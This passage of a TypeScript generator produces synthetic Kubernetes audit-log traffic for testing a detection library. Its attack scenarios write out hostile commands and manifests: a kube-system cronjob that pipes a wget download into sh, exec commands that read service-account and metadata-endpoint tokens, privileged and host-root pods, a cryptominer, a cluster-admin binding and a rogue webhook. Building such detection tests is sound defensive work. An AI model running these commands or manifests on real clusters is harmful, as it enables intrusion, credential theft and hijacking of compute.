        ['get', 'configmaps', 'kube-system', 'overlay-upgrade-data', { apiVersion: 'v1', kind: 'ConfigMap', metadata: objectMeta(random, 'overlay-upgrade-data', 'kube-system', time), data }],
        ['get', 'namespaces', undefined, 'kube-system', { apiVersion: 'v1', kind: 'Namespace', metadata: objectMeta(random, 'kube-system', undefined, time, { labels: { 'kubernetes.io/metadata.name': 'kube-system', 'addonmanager.kubernetes.io/mode': 'Reconcile', 'control-plane': 'true' } }), spec: { finalizers: ['kubernetes'] }, status: { phase: 'Active' } }],
        ['get', 'services', 'default', 'kubernetes', { apiVersion: 'v1', kind: 'Service', metadata: objectMeta(random, 'kubernetes', 'default', time, { labels: { component: 'apiserver', provider: 'kubernetes' } }), spec: { clusterIP: '10.0.0.1', clusterIPs: ['10.0.0.1'], type: 'ClusterIP', sessionAffinity: 'None', ipFamilies: ['IPv4'], ipFamilyPolicy: 'SingleStack', internalTrafficPolicy: 'Cluster', ports: [{ name: 'https', port: 443, protocol: 'TCP', targetPort: 443 }] }, status: { loadBalancer: {} } }],
        ['get', 'certificatesigningrequests', undefined, `csr-${random.suffix(5)}`, { apiVersion: 'certificates.k8s.io/v1', kind: 'CertificateSigningRequest', metadata: objectMeta(random, 'csr', undefined, time), spec: { request: random.hex(600), signerName: 'kubernetes.io/kube-apiserver-client-kubelet', usages: ['digital signature', 'client auth'], username: 'nodeclient', groups: ['system:bootstrappers', 'system:authenticated'] }, status: {} }],
      ];
      const [verb, resource, namespace, name, object] = random.pick(objects);
      return {
        event: event(
          context,
          {
            verb,
            resource,
            apiGroup: resource === 'certificatesigningrequests' ? 'certificates.k8s.io' : '',
            ...(namespace === undefined ? {} : { namespace }),
            name,
            userAgent: username === 'nodeclient' ? 'kubeadm/v1.30.6 (linux/amd64) kubernetes/$Format' : 'Go-http-client/2.0',
            sourceIP: username === 'nodeclient' ? random.pick(cluster.nodeIps) : CONTROL_PLANE_IP,
            ...(verb === 'patch' ? { requestObject: { data } } : {}),
            responseObject: object,
          },
          { user: { username, groups: username === 'nodeclient' ? ['system:bootstrappers', 'system:authenticated'] : ['system:masters', 'system:authenticated'] } },
        ),
        ...(resource === 'configmaps' ? { padding } : {}),
      };
    },
  },
  {
    name: 'developer-apply',
    weight: 5,
    sizeInChars: [3_000, 19_500],
    build: (context) => {
      const { random, time } = context;
      const app = random.pick(APP_NAMES);
      const namespace = random.pick(APP_NAMESPACES.filter((n) => n !== 'default'));
      const kind = random.pick(['deployments', 'deployments', 'services', 'configmaps'] as const);
      const create = random.chance(0.3);
      let object: Json;
      let padding: BuiltEvent['padding'];
      let render = (): void => undefined;
      if (kind === 'deployments') {
        const spec = appPodSpec(random, app);
        object = workloadObject('deployments', spec, app, namespace);
        padding = { list: podEnv(spec), unit: (index) => envVar(random, 100 + index) };
      } else if (kind === 'services') {
        const ports: Json[] = [{ name: 'http', port: 80, targetPort: 8080, protocol: 'TCP' }];
        object = { apiVersion: 'v1', kind: 'Service', metadata: { name: app, namespace, labels: { app } }, spec: { type: 'ClusterIP', selector: { app }, ports } };
        padding = { list: ports, unit: (index) => ({ name: `metrics-${index}`, port: 9000 + index, targetPort: 9000 + index, protocol: 'TCP' }) };
      } else {
        const lines: string[] = ['server {', '  listen 8080;', '  location / {', `    proxy_pass http://${app}.${namespace}.svc.cluster.local:8080;`, '  }'];
        const data: Json = { 'appsettings.json': JSON.stringify({ Logging: { LogLevel: { Default: 'Information' } }, FeatureManagement: { NewCheckout: true } }) };
        object = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: `${app}-config`, namespace }, data };
        padding = { list: lines, unit: (index) => `  location /api/v${index} { proxy_pass http://${app}-v${index}.${namespace}.svc.cluster.local:8080; proxy_read_timeout 30s; }` };
        // The file is one string value, as kubectl sends it.
        render = () => {
          data['nginx.conf'] = `${lines.join('\n')}\n}\n`;
        };
      }
      const metadata = object.metadata as Json;
      const annotations: Json = {};
      const finish = (): void => {
        render();
        delete metadata.annotations;
        annotations['kubectl.kubernetes.io/last-applied-configuration'] = `${JSON.stringify(object)}\n`;
        metadata.annotations = annotations;
      };
      const response = { ...object, metadata: { ...objectMeta(random, String(metadata.name), namespace, time), annotations, managedFields: [managedFieldsUnit(random, time)(0)] } };
      return {
        event: event(context, {
          verb: create ? 'create' : 'patch',
          resource: kind,
          apiGroup: kind === 'deployments' ? 'apps' : '',
          namespace,
          name: String(metadata.name),
          requestURI: `/${kind === 'deployments' ? 'apis/apps' : 'api'}/v1/namespaces/${namespace}/${kind}${create ? '' : `/${String(metadata.name)}`}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`,
          userAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46',
          sourceIP: `203.0.113.${random.int(2, 250)}`,
          requestObject: object,
          responseObject: response,
        }, { user: developerUser(random) }),
        padding,
        finish,
      };
    },
  },
  {
    name: 'developer-read',
    weight: 3,
    sizeInChars: [1_024, 1_500],
    build: (context) => {
      const { random } = context;
      const namespace = random.pick(APP_NAMESPACES);
      const resource = random.pick(['pods', 'deployments', 'services', 'events', 'configmaps']);
      const verb = random.pick(['get', 'list']);
      const name = verb === 'get' ? `${random.pick(APP_NAMES)}-${random.suffix(5)}` : undefined;
      return {
        event: event(
          context,
          { verb, resource, apiGroup: resource === 'deployments' ? 'apps' : '', apiVersion: 'v1', namespace, ...(name === undefined ? {} : { name }), userAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46', sourceIP: `203.0.113.${random.int(2, 250)}` },
          { user: developerUser(random) },
        ),
      };
    },
  },
];

// ---------------------------------------------------------------------------------------------------------
// Attacks: each a request one or more rules of the library exist to catch

const ATTACKERS = ['mallory@contoso.com', 'temp-contractor@contoso.com', 'system:serviceaccount:shop:default', 'system:serviceaccount:web:frontend'];

function attackerUser(random: SeededRandom, cluster: Cluster): Json {
  const username = random.pick(ATTACKERS);
  if (!username.startsWith('system:serviceaccount:')) return developerUser(random, username);
  const [, , namespace = 'default', name = 'default'] = username.split(':');
  return serviceAccountUser(random, namespace, name, cluster);
}

function attackIp(random: SeededRandom): string {
  return `198.51.100.${random.int(2, 250)}`;
}

/** An attack that writes a workload: pod or controller, request and response logged. */
function workloadAttack(name: string, build: (random: SeededRandom) => { resource: 'pods' | 'deployments' | 'daemonsets' | 'cronjobs'; namespace: string; object: Json }): Scenario {
  return {
    name,
    weight: 1,
    sizeInChars: [2_000, 9_000],
    build: (context) => {
      const { random, cluster } = context;
      const { resource, namespace, object } = build(random);
      const group = resource === 'pods' ? '' : resource === 'cronjobs' ? 'batch' : 'apps';
      const annotations: Json = {};
      const notes: string[] = [];
      ((object.metadata ?? (object.metadata = {})) as Json).annotations = annotations;
      return {
        event: event(
          context,
          { verb: 'create', resource, apiGroup: group, namespace, userAgent: random.chance(0.5) ? 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46' : 'python-requests/2.32.3', sourceIP: attackIp(random), requestObject: object, responseObject: object },
          { user: attackerUser(random, cluster) },
        ),
        padding: { list: notes, unit: () => `pipeline run ${random.hex(12)} by ${random.pick(DEVELOPERS)}` },
        finish: () => {
          for (const key of Object.keys(annotations)) delete annotations[key];
          notes.forEach((note, index) => (annotations[`example.com/change-${index}`] = note));
        },
      };
    },
  };
}

const attackScenarios: readonly Scenario[] = [
  workloadAttack('privileged-pod', (random) => {
    const spec = appPodSpec(random, 'debug', 2);
    (spec.containers as Json[])[0] = container({ name: 'debug', image: 'docker.io/library/ubuntu:22.04', command: ['sleep', 'infinity'], securityContext: { privileged: true } });
    return { resource: 'pods', namespace: random.pick(APP_NAMESPACES), object: podObject(spec, `debug-${random.suffix(5)}`) };
  }),
  workloadAttack('host-root-mount', (random) => {
    const spec = appPodSpec(random, 'node-shell', 2);
    (spec.containers as Json[])[0] = container({ name: 'shell', image: 'docker.io/library/alpine:3.20', command: ['chroot', '/host', 'sh'], volumeMounts: [{ name: 'host', mountPath: '/host' }] });
    spec.volumes = [{ name: 'host', hostPath: { path: '/', type: 'Directory' } }];
    spec.hostPID = true;
    return { resource: 'pods', namespace: random.pick(APP_NAMESPACES), object: podObject(spec, `node-shell-${random.suffix(5)}`) };
  }),
  workloadAttack('mining-image', (random) => {
    const spec = appPodSpec(random, 'miner', 2);
    (spec.containers as Json[])[0] = container({ name: 'worker', image: random.pick(['docker.io/xmrig/xmrig:6.22.0', 'docker.io/metal3d/xmrig:latest', 'ghcr.io/lolliedieb/lolminer:1.88']), args: ['-o', 'pool.supportxmr.com:443', '--tls'] });
    return { resource: 'deployments', namespace: random.pick(APP_NAMESPACES), object: workloadObject('deployments', spec, `metrics-${random.suffix(4)}`) };
  }),
  workloadAttack('kube-system-cronjob', (random) => {
    const spec = appPodSpec(random, 'updater', 2);
    (spec.containers as Json[])[0] = container({ name: 'updater', image: 'docker.io/library/alpine:3.20', command: ['sh', '-c', 'wget -qO- http://198.51.100.7/x.sh | sh'] });
    spec.restartPolicy = 'OnFailure';
    return { resource: 'cronjobs', namespace: 'kube-system', object: cronJobObject(spec, `kube-updater-${random.suffix(4)}`, 'kube-system', '*/5 * * * *') };
  }),
  {
    name: 'exec-into-pod',
    weight: 1,
    sizeInChars: [1_100, 1_800],
    build: (context) => {
      const { random, cluster } = context;
      const namespace = random.pick(APP_NAMESPACES);
      const pod = `${random.pick(APP_NAMES)}-${random.suffix(10)}-${random.suffix(5)}`;
      const command = random.pick([['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'], ['bash'], ['sh', '-c', 'curl -s http://169.254.169.254/metadata/identity/oauth2/token']]);
      const query = [...command.map((part) => `command=${encodeURIComponent(part)}`), 'container=app', 'stdin=true', 'stdout=true', 'tty=true'].join('&');
      return {
        event: event(
          context,
          { verb: 'create', resource: 'pods', subresource: 'exec', namespace, name: pod, requestURI: `/api/v1/namespaces/${namespace}/pods/${pod}/exec?${query}`, sourceIP: attackIp(random) },
          { user: attackerUser(random, cluster) },
        ),
      };
    },
  },
  {
    name: 'cluster-admin-binding',
    weight: 1,
    sizeInChars: [1_400, 3_000],
    build: (context) => {
      const { random, cluster, time } = context;
      const name = random.pick(['backup-admin', 'ci-deployer', `tmp-${random.suffix(5)}`]);
      const binding = {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRoleBinding',
        metadata: { name },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [random.chance(0.5) ? { kind: 'ServiceAccount', name: 'default', namespace: random.pick(APP_NAMESPACES) } : { kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'mallory@contoso.com' }],
      };
      return {
        event: event(
          context,
          { verb: 'create', resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', sourceIP: attackIp(random), requestObject: binding, responseObject: { ...binding, metadata: objectMeta(random, name, undefined, time) } },
          { user: attackerUser(random, cluster) },
        ),
      };
    },
  },
  {
    name: 'secrets-listing',
    weight: 1,
    sizeInChars: [1_024, 1_600],
    build: (context) => {
      const { random, cluster } = context;
      const clusterWide = random.chance(0.6);
      const namespace = random.pick(['kube-system', ...APP_NAMESPACES]);
      return {
        event: event(
          context,
          {
            verb: 'list',
            resource: 'secrets',
            ...(clusterWide ? {} : { namespace }),
            requestURI: clusterWide ? '/api/v1/secrets?limit=500' : `/api/v1/namespaces/${namespace}/secrets?limit=500`,
            sourceIP: attackIp(random),
          },
          { user: attackerUser(random, cluster) },
        ),
      };
    },
  },
  {
    name: 'dashboard-load-balancer',
    weight: 1,
    sizeInChars: [1_200, 3_000],
    build: (context) => {
      const { random, cluster } = context;
      const service = {
        apiVersion: 'v1',
        kind: 'Service',
        metadata: { name: 'kubernetes-dashboard', namespace: 'kubernetes-dashboard', labels: { 'k8s-app': 'kubernetes-dashboard' } },
        spec: { type: 'LoadBalancer', selector: { 'k8s-app': 'kubernetes-dashboard' }, ports: [{ port: 443, targetPort: 8443, protocol: 'TCP' }] },
      };
      return {
        event: event(
          context,
          { verb: 'create', resource: 'services', namespace: 'kubernetes-dashboard', sourceIP: attackIp(random), requestObject: service, responseObject: service },
          { user: attackerUser(random, cluster) },
        ),
      };
    },
  },
  {
    name: 'kube-hunter-scan',
    weight: 1,
    sizeInChars: [1_024, 1_500],
    build: (context) => {
      const { random } = context;
      const resource = random.pick(['pods', 'namespaces', 'nodes', 'secrets']);
      return {
        event: event(
          context,
          // Run from a pod (`kube-hunter --pod`) with that pod's service-account token.
          { verb: 'list', resource, userAgent: random.pick(['kube-hunter/0.6.8', 'python-requests/2.31.0 kube-hunter']), sourceIP: `10.244.${random.int(0, 5)}.${random.int(2, 250)}`, code: random.pick([200, 403]) },
          { user: serviceAccountUser(random, random.pick(APP_NAMESPACES), 'default', context.cluster) },
        ),
      };
    },
  },
  {
    name: 'admission-webhook',
    weight: 1,
    sizeInChars: [2_000, 5_000],
    build: (context) => {
      const { random, cluster } = context;
      const name = `policy-${random.suffix(5)}`;
      const webhook = {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'MutatingWebhookConfiguration',
        metadata: { name },
        webhooks: [{ name: `${name}.example.io`, clientConfig: { url: `https://198.51.100.${random.int(2, 250)}/mutate`, caBundle: random.hex(512) }, rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }], admissionReviewVersions: ['v1'], sideEffects: 'None', failurePolicy: 'Ignore' }],
      };
      return {
        event: event(
          context,
          { verb: 'create', resource: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', sourceIP: attackIp(random), requestObject: webhook, responseObject: webhook },
          { user: attackerUser(random, cluster) },
        ),
      };
    },
  },
  {
    name: 'configmap-with-password',
    weight: 1,
    sizeInChars: [1_200, 3_000],
    build: (context) => {
      const { random } = context;
      const namespace = random.pick(APP_NAMESPACES);
      const configMap = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: `${random.pick(APP_NAMES)}-settings`, namespace }, data: { DB_HOST: 'orders-db.postgres.database.azure.com', DB_USER: 'orders', DB_PASSWORD: `P@ss-${random.hex(10)}`, LOG_LEVEL: 'info' } };
      return {
        event: event(
          context,
          { verb: 'create', resource: 'configmaps', namespace, userAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46', sourceIP: `203.0.113.${random.int(2, 250)}`, requestObject: configMap, responseObject: configMap },
          { user: developerUser(random) },
        ),
      };
    },
  },
  {
    name: 'events-deletion',
    weight: 1,
    sizeInChars: [1_024, 1_600],
    build: (context) => {
      const { random, cluster } = context;
      const namespace = random.pick(['kube-system', ...APP_NAMESPACES]);
      return {
        event: event(
          context,
          { verb: 'deletecollection', resource: 'events', namespace, requestURI: `/api/v1/namespaces/${namespace}/events`, sourceIP: attackIp(random) },
          { user: attackerUser(random, cluster) },
        ),
      };
    },
  },
  {
    name: 'alert-test',
    weight: 1,
    sizeInChars: [1_024, 1_600],
    build: (context) => {
      const { random } = context;
      const create = random.chance(0.5);
      return {
        event: event(
          context,
          create
            ? { verb: 'create', resource: 'namespaces', requestObject: { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'argus-alerttest' } } }
            : { verb: 'list', resource: 'pods', namespace: 'argus-alerttest' },
          { user: developerUser(random) },
        ),
      };
    },
  },
];

export type ScenarioName = string;
/** Names of the attack scenarios: their events should raise findings. */
export const ATTACK_SCENARIOS: ReadonlySet<ScenarioName> = new Set(attackScenarios.map((scenario) => scenario.name));

// ---------------------------------------------------------------------------------------------------------
// The generator

export function generateAuditTraffic(options: AuditTrafficOptions): AuditTraffic {
  const random = new SeededRandom(options.seed ?? DEFAULT_SEED);
  const attackShare = options.attackShare ?? 0.05;
  const klogShare = options.klogShare ?? 0.01;
  const perMessage = options.recordsPerMessage ?? { min: 20, max: 60 };
  const maxGap = 2 * (options.meanGapInMicroseconds ?? 10_000);
  const clusters = [0, 1, 2].map((index) => createCluster(random, index));
  const quiet = options.quiet === true;
  const benign = quiet ? benignScenarios.filter((scenario) => !scenario.name.startsWith('developer-')) : benignScenarios;
  const benignWeight = benign.reduce((sum, scenario) => sum + scenario.weight, 0);
  const attackWeight = attackScenarios.reduce((sum, scenario) => sum + scenario.weight, 0);

  const messages: string[] = [];
  const eventSizes: number[] = [];
  const scenarioByAuditId = new Map<string, ScenarioName>();
  const scenarioCounts: Record<string, number> = {};
  let characters = 0;
  let klogRecords = 0;
  let clock = Date.parse('2026-11-02T10:00:00Z') * 1000; // microseconds

  while (eventSizes.length < options.events) {
    const cluster = random.pick(clusters);
    const size = random.int(perMessage.min, perMessage.max);
    const records: Json[] = [];
    while (records.length < size && eventSizes.length < options.events) {
      clock += random.int(0, maxGap);
      const time = formatMicroseconds(clock);
      if (random.chance(klogShare)) {
        records.push(klogRecord(random, cluster, time));
        klogRecords++;
        continue;
      }
      const scenario = random.chance(attackShare)
        ? pickWeighted(random, attackScenarios, attackWeight)
        : pickWeighted(random, benign, benignWeight);
      const auditID = random.uuid();
      const log = buildEvent(scenario, { random, cluster, auditID, time, quiet });
      eventSizes.push(log.length);
      scenarioByAuditId.set(auditID, scenario.name);
      scenarioCounts[scenario.name] = (scenarioCounts[scenario.name] ?? 0) + 1;
      records.push(diagnosticRecord(random, cluster, time, 'kube-audit', `${log}\n`));
    }
    const message = JSON.stringify({ records });
    characters += message.length;
    messages.push(message);
  }
  return { messages, events: eventSizes.length, klogRecords, characters, eventSizes, scenarioByAuditId, scenarioCounts };
}

/** Builds the scenario's event, pads it to a size drawn from the scenario's range, and serializes it. */
function buildEvent(scenario: Scenario, context: ScenarioContext): string {
  const { random } = context;
  const [min, max] = scenario.sizeInChars;
  // Skewed towards the small end, as real traffic is.
  const target = Math.min(MAX_EVENT_SIZE_IN_CHARS, Math.max(MIN_EVENT_SIZE_IN_CHARS, Math.round(min + (max - min) * random.next() ** 2)));
  const { event, padding, finish } = scenario.build(context);
  finish?.();
  let json = JSON.stringify(event);
  if (padding === undefined || json.length >= target) return json;
  const before = padding.list.length;
  let index = 0;
  const add = (budget: number): number => {
    let added = 0;
    do {
      const unit = padding.unit(before + index++);
      padding.list.push(unit);
      added += JSON.stringify(unit).length + 1;
    } while (added < budget);
    finish?.();
    return added;
  };
  // One unit first, to learn how many times a unit shows in the event (request and response share objects).
  const unpadded = json.length;
  const estimated = add(0);
  json = JSON.stringify(event);
  const copies = Math.max(1, (json.length - unpadded) / estimated);
  while (json.length < target) {
    add((target - json.length) / copies);
    json = JSON.stringify(event);
  }
  while (json.length > MAX_EVENT_SIZE_IN_CHARS && padding.list.length > before) {
    padding.list.pop();
    finish?.();
    json = JSON.stringify(event);
  }
  return json;
}

function pickWeighted(random: SeededRandom, scenarios: readonly Scenario[], totalWeight: number): Scenario {
  let roll = random.next() * totalWeight;
  for (const scenario of scenarios) {
    roll -= scenario.weight;
    if (roll < 0) return scenario;
  }
  return scenarios[scenarios.length - 1] as Scenario;
}

function createCluster(random: SeededRandom, index: number): Cluster {
  const name = ['aks-shop-prod', 'aks-shop-staging', 'aks-data-prod'][index] ?? `aks-${index}`;
  const subscription = random.uuid();
  const pool = String(random.int(10_000_000, 99_999_999));
  const nodes: string[] = [];
  const nodeIps: string[] = [];
  for (let node = 0; node < 3 + index; node++) {
    nodes.push(`aks-nodepool1-${pool}-vmss${String(node).padStart(6, '0')}`);
    nodeIps.push(`10.224.0.${4 + node}`);
  }
  return {
    resourceId: `/SUBSCRIPTIONS/${subscription.toUpperCase()}/RESOURCEGROUPS/RG-${name.toUpperCase()}/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/${name.toUpperCase()}`,
    nodes,
    nodeIps,
    apiServerPods: [0, 1].map(() => `kube-apiserver-${random.suffix(10)}-${random.suffix(5)}`),
    kubernetesVersion: 'v1.30.6',
    gitCommit: random.hex(40),
  };
}

function diagnosticRecord(random: SeededRandom, cluster: Cluster, time: string, category: string, log: string): Json {
  return {
    time: time.replace(/(\.\d{3})\d*Z$/, '$1Z'),
    resourceId: cluster.resourceId,
    category,
    operationName: 'Microsoft.ContainerService/managedClusters/diagnosticLogs/Read',
    properties: { log, stream: category === 'kube-audit' ? 'stdout' : 'stderr', pod: random.pick(cluster.apiServerPods), containerID: random.hex(64) },
  };
}

/** A plain-text apiserver log line: AKS routes it to the same hub; the decoder counts and skips it. */
function klogRecord(random: SeededRandom, cluster: Cluster, time: string): Json {
  const clock = time.slice(11, 26);
  const line = random.pick([
    `I1102 ${clock}       1 controller.go:615] quota admission added evaluator for: leases.coordination.k8s.io`,
    `W1102 ${clock}       1 dispatcher.go:217] Failed calling webhook, failing open azure-policy-validating-webhook.example: context deadline exceeded`,
    `I1102 ${clock}       1 alloc.go:330] "allocated clusterIPs" service="shop/web" clusterIPs={"IPv4":"10.0.${random.int(0, 255)}.${random.int(1, 254)}"}`,
    `E1102 ${clock}       1 status.go:71] apiserver received an error that is not an metav1.Status: context.canceledErr`,
  ]);
  return diagnosticRecord(random, cluster, time, 'kube-apiserver', `${line}\n`);
}

function formatMicroseconds(microseconds: number): string {
  const iso = new Date(Math.floor(microseconds / 1000)).toISOString();
  return `${iso.slice(0, -1)}${String(Math.floor(microseconds % 1000)).padStart(3, '0')}Z`;
}

function addMicroseconds(time: string, microseconds: number): string {
  const milliseconds = Date.parse(time);
  const extra = Number(time.slice(23, 26)) || 0;
  return formatMicroseconds(milliseconds * 1000 + extra + microseconds);
}
